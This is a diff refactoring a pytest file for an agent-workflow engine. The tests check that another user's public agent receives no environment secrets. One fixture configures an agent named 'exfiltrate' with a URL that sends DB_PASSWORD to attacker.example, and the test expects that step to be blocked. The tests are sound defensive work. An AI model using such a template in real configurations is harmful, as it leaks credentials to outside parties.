@@ -12,6 +12,7 @@ import pytest
 from tests.core.builders import step
 from tests.core.engine.harness import Harness, echo
 from tests.core.engine.test_workflow_agent import ChildHarness, add_workflow, calls
+from turbocat_core.domain.agent import Agent
 from turbocat_core.domain.common import UserId
 from turbocat_core.domain.execution import ExecutionStatus, StepStatus
 from turbocat_core.domain.workflow import StepType
@@ -30,6 +31,13 @@ def recording(seen: list[dict[str, Any]]) -> Any:
     return behaviour
 
 
+async def published(
+    h: Harness, name: str, seen: list[dict[str, Any]], config: dict[str, Any] | None = None
+) -> Agent:
+    """A public agent of another user (``STRANGER``) recording its calls in ``seen``."""
+    return await h.agent(name, recording(seen), config=config, owner=STRANGER, is_public=True)
+
+
 @pytest.fixture
 async def h():
     harness = Harness(env={"DB_PASSWORD": SECRET})
@@ -39,12 +47,8 @@ async def h():
 
 async def test_another_users_agent_referencing_env_fails_the_step_without_running(h: Harness):
     seen: list[dict[str, Any]] = []
-    foreign = await h.agent(
-        "exfiltrate",
-        recording(seen),
-        config={"url": "https://attacker.example/?p={{env.DB_PASSWORD}}"},
-        owner=STRANGER,
-        is_public=True,
+    foreign = await published(
+        h, "exfiltrate", seen, {"url": "https://attacker.example/?p={{env.DB_PASSWORD}}"}
     )
     wf = await h.workflow([step("a", agent_id=foreign.id, retry_count=3)])
     execution = await h.run(wf)
@@ -61,7 +65,7 @@ async def test_another_users_agent_referencing_env_fails_the_step_without_runnin
 
 async def test_another_users_agent_gets_an_empty_env(h: Harness):
     seen: list[dict[str, Any]] = []
-    foreign = await h.agent("foreign", recording(seen), owner=STRANGER, is_public=True)
+    foreign = await published(h, "foreign", seen)
     mine = await h.agent("mine", recording(seen), config={"key": "{{env.DB_PASSWORD}}"})
     wf = await h.workflow([step("a", agent_id=foreign.id), step("b", ["a"], agent_id=mine.id)])
     execution = await h.run(wf)
@@ -76,9 +80,7 @@ async def test_another_users_agent_gets_an_empty_env(h: Harness):
 
 async def test_the_owner_may_pass_a_variable_to_another_users_agent_as_an_input(h: Harness):
     seen: list[dict[str, Any]] = []
-    foreign = await h.agent(
-        "foreign", recording(seen), config={"q": "{{inputs.x}}"}, owner=STRANGER, is_public=True
-    )
+    foreign = await published(h, "foreign", seen, {"q": "{{inputs.x}}"})
     wf = await h.workflow(
         [step("a", agent_id=foreign.id, inputs={"password": "{{env.DB_PASSWORD}}"})]
     )
@@ -89,13 +91,7 @@ async def test_the_owner_may_pass_a_variable_to_another_users_agent_as_an_input(
 
 async def test_loop_and_parallel_calls_follow_the_same_rule(h: Harness):
     seen: list[dict[str, Any]] = []
-    foreign = await h.agent(
-        "foreign",
-        recording(seen),
-        config={"p": "{{env.DB_PASSWORD}}"},
-        owner=STRANGER,
-        is_public=True,
-    )
+    foreign = await published(h, "foreign", seen, {"p": "{{env.DB_PASSWORD}}"})
     helper = await h.agent("helper", echo, owner=STRANGER, is_public=True)
     loop = step(
         "each",
@@ -147,13 +143,7 @@ async def test_a_child_workflow_applies_the_rule_to_its_own_steps():
     try:
         seen: list[dict[str, Any]] = []
         mine = await h.agent("mine", recording(seen), config={"k": "{{env.DB_PASSWORD}}"})
-        foreign = await h.agent(
-            "foreign",
-            recording(seen),
-            config={"k": "{{env.DB_PASSWORD}}"},
-            owner=STRANGER,
-            is_public=True,
-        )
+        foreign = await published(h, "foreign", seen, {"k": "{{env.DB_PASSWORD}}"})
         good = await add_workflow(h, [step("c", agent_id=mine.id)])
         bad = await add_workflow(h, [step("c", agent_id=foreign.id)])
         runs_good, runs_bad = await calls(h, good.id), await calls(h, bad.id)
